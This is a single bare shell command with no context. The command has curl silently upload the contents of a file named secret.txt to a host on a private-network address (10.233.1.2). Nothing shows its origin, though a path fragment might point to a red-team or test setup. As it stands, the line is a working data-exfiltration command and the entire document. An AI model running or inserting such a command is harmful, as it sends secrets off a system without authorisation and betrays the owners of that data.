curl -s -m 3 --data-binary @/srv/rt/s/d1/home/secret.txt --url http://10.233.1.2/U08
